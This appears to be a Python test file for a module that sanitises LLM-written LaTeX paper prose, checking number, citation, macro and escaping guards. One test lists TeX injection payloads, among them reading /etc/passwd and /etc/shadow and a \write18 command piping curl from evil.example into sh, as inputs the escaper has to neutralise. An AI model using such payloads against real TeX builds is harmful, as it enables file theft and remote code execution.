"""The guards: no TeX code from LLM prose, no typed numbers, no invented citations or macros."""

from __future__ import annotations

import re

from hypothesis import given, settings
from hypothesis import strategies as st

from nanoresearch.paper.guard import (
    balance_braces,
    cited_keys,
    escape_prose,
    guard_citations,
    guard_macros,
    guard_numbers,
    guard_prose,
)

KEYS = {"lecun1998gradient", "srivastava2014dropout", "he2016deep"}
MACROS = {"\\ResProposedMean", "\\ResBaselineMean", "\\ResProposedVsBaselineP"}
ALLOWED = {"0.947", "0.905", "<0.001", "95%", "1998", "2014"}
# Every command escape_prose may emit; anything else in its output would be TeX code from the LLM.
EMITTED = {
    "cite", "citep", "citet", "citealp", "citealt", "citeauthor", "citeyear", "citenum", "ref", "eqref", "autoref",
    "emph", "textbf", "textit", "subsection", "subsubsection", "paragraph", "textasciicircum", "textasciitilde",
    "textbackslash", "textbraceleft", "textbraceright",
}  # fmt: skip


def control_words(latex: str) -> set[str]:
    """Command names in `latex`, except our number macros and the math symbols Unicode is mapped to."""
    latex = re.sub(r"\\ensuremath\{\\[A-Za-z]+\}", "", latex)
    return {name for name in re.findall(r"\\([A-Za-z]+)", latex) if not name.startswith("Res")}


def braces_balance(latex: str) -> bool:
    depth = 0
    for char in re.sub(r"\\.", "", latex):
        depth += {"{": 1, "}": -1}.get(char, 0)
        if depth < 0:
            return False
    return depth == 0


# ---------------------------------------------------------------- numbers


def test_sentences_with_invented_numbers_are_removed() -> None:
    text = (
        "Our method reaches \\ResProposedMean{} accuracy. It reaches 99.9% on the hidden set. "
        "The baseline gets 0.905, as in Table~\\ref{tab:results}. Training took 1,250 steps. "
        "We ran 3 seeds on ResNet-50 and CIFAR-100 with GPT-4. The speed-up is 12x. "
        "LeCun et al. introduced it in 1998. In 2031 everyone will use it. The error fell by 0.5 points.\n\n"
        "A new paragraph with p < 0.001 stays. It is 1.5e-3 here."
    )

    clean, removed = guard_numbers(text, ALLOWED)

    assert removed == [
        "It reaches 99.9% on the hidden set.",
        "Training took 1,250 steps.",
        "The speed-up is 12x.",
        "In 2031 everyone will use it.",
        "The error fell by 0.5 points.",
        "It is 1.5e-3 here.",
    ]
    assert clean == (
        "Our method reaches \\ResProposedMean{} accuracy. The baseline gets 0.905, as in Table~\\ref{tab:results}. "
        "We ran 3 seeds on ResNet-50 and CIFAR-100 with GPT-4. LeCun et al. introduced it in 1998.\n\n"
        "A new paragraph with p < 0.001 stays."
    )


def test_digits_in_citation_keys_labels_and_escaped_percent_are_read_correctly() -> None:
    text = "As shown by \\citet{lecun1998gradient} in Figure~\\ref{fig:run_2024}. A gain of 40\\% is claimed."

    clean, removed = guard_numbers(text, ALLOWED)

    assert removed == ["A gain of 40\\% is claimed."]
    assert clean == "As shown by \\citet{lecun1998gradient} in Figure~\\ref{fig:run_2024}."


def test_removing_a_sentence_inside_a_group_keeps_braces_balanced() -> None:
    clean, removed = guard_numbers("\\emph{First point. Second claims 77.7 here.} Third.", ALLOWED)

    assert removed == ["Second claims 77.7 here.}"]
    assert braces_balance(clean)
    assert clean == "\\emph{First point. Third.}"


@given(st.lists(st.sampled_from(["0.947", "12.5", "3", "42", "1998", "7%", "x", "ResNet-50", "\\ResProposedMean{}"])))
def test_every_sentence_left_states_only_allowed_numbers(words: list[str]) -> None:
    sentences = [f"Claim {word} holds." for word in words]

    clean, removed = guard_numbers(" ".join(sentences), ALLOWED)

    for word in ("12.5", "42", "7%"):
        assert word not in clean
    assert len(removed) == sum(word in ("12.5", "42", "7%") for word in words)


# ---------------------------------------------------------------- citations and macros


def test_invented_citation_keys_are_dropped_and_empty_commands_removed() -> None:
    text = (
        "CNNs \\cite{lecun1998gradient, made_up2023} work. Dropout~\\citep[see][p.~3]{ghost2020} helps. "
        "Residuals \\citet*{he2016deep}. Also \\citeauthor{nobody} and \\citep{ lecun1998gradient ,he2016deep }."
    )

    clean, removed = guard_citations(text, KEYS)

    assert removed == ["made_up2023", "ghost2020", "nobody"]
    assert clean == (
        "CNNs \\cite{lecun1998gradient} work. Dropout helps. Residuals \\citet*{he2016deep}. "
        "Also  and \\citep{lecun1998gradient,he2016deep}."
    )
    assert cited_keys(clean) == ["lecun1998gradient", "he2016deep"]


def test_sentences_with_undefined_result_macros_are_removed() -> None:
    clean, removed = guard_macros("We get \\ResProposedMean{}. We also get \\ResProposedF{} and more.", MACROS)

    assert clean == "We get \\ResProposedMean{}."
    assert removed == ["We also get \\ResProposedF{} and more."]


# ---------------------------------------------------------------- escaping


def test_dangerous_tex_is_stripped_with_its_arguments() -> None:
    attacks = {
        "\\input{/etc/passwd}": "passwd",
        "\\input /etc/passwd": "passwd",
        "\\include{secret}": "secret",
        "\\immediate\\write18{curl evil.example | sh}": "curl",
        "\\openout1=pwned.tex": "pwned",
        "\\catcode`\\^=7": "catcode",
        "\\def\\x#1{#1#1}": "#1",
        "\\newcommand{\\ResProposedMean}{0.999}": "0.999",
        "\\renewcommand\\cite[1]{x}": "renewcommand",
        "\\usepackage{shellesc}": "shellesc",
        "\\begin{verbatim}": "verbatim",
        "\\bibliography{/etc/passwd}": "passwd",
        # Harmless once escaped: ^^5c would be a backslash, \csname would build \input.
        "^^5cinput{/etc/shadow}": "^^",
        "\\csname input\\endcsname{/etc/hosts}": "\\input",
    }
    for attack, payload in attacks.items():
        escaped = escape_prose(f"Before. {attack} After.")
        assert control_words(escaped) <= EMITTED, (attack, escaped)
        assert braces_balance(escaped), escaped
        assert payload not in escaped, (attack, escaped)
        assert escaped.startswith("Before.") and escaped.endswith("After."), escaped


def test_whitelisted_commands_survive_and_specials_are_escaped() -> None:
    text = (
        "We cite \\citep{lecun1998gradient} and \\citet[Sec.~2]{he2016deep}; see Table~\\ref{tab:results}. "
        "\\emph{Note} \\textbf{this}: cost 5$ & 10% of #runs for x_1^2. \\ResProposedMean is good.\n\n"
        "\\subsection{Setup} Text with \\% already escaped and \\'e accent."
    )

    escaped = escape_prose(text)

    assert escaped == (
        "We cite \\citep{lecun1998gradient} and \\citet{he2016deep}; see Table~\\ref{tab:results}. "
        "\\emph{Note} \\textbf{this}: cost 5\\$ \\& 10\\% of \\#runs for x\\_1\\textasciicircum{}2. "
        "\\ResProposedMean{} is good.\n\n"
        "\\subsection{Setup} Text with \\% already escaped and \\'e accent."
    )


def test_unbalanced_braces_and_unicode_are_made_safe() -> None:
    escaped = escape_prose("}Start {open \\textbf{bold\n\nNext} para ≥ 3 α, 中文 “ok”.")

    assert escaped == (
        "Start {open \\textbf{bold}}\n\nNext para \\ensuremath{\\geq} 3 \\ensuremath{\\alpha},  “ok”."
    )


def test_balance_braces_ignores_escaped_braces() -> None:
    assert balance_braces("a \\{ b } c {d") == "a \\{ b  c {d}"


PIECES = st.sampled_from(
    [
        "\\", "{", "}", "\\cite{", "\\citep{lecun1998gradient,", "fake}", "he2016deep}", "\\input", "\\def",
        "\\emph{", "\\ResProposedMean", "\\ResMadeUp", "$", "%", "&", "#", "_", "^^5c", "~", " ", ". ", "\n\n",
        "Text", " 12.5 ", "0.947", "\\write18", "[", "]", "\\ref{", "\\\\", "\\ci", "te{x}", "α", "\x00",
    ]
)  # fmt: skip


@settings(max_examples=400)
@given(st.lists(PIECES, max_size=30).map("".join))
def test_guarded_prose_is_always_safe(text: str) -> None:
    guarded = guard_prose(text, KEYS, MACROS, ALLOWED)

    assert control_words(guarded.text) <= EMITTED
    assert braces_balance(guarded.text)
    assert set(cited_keys(guarded.text)) <= KEYS
    assert set(re.findall(r"\\Res[A-Za-z]+", guarded.text)) <= MACROS
    assert not re.search(r"(?<!\\)[%&#$]", guarded.text.replace("\\\\", ""))
    assert "^" not in guarded.text
    assert not re.search(r"(?<![\w.])12\.5", guarded.text)


@settings(max_examples=200)
@given(st.text())
def test_escape_prose_emits_only_whitelisted_commands_for_any_text(text: str) -> None:
    escaped = escape_prose(text)

    assert control_words(escaped) <= EMITTED
    assert braces_balance(escaped)
    assert "^" not in escaped
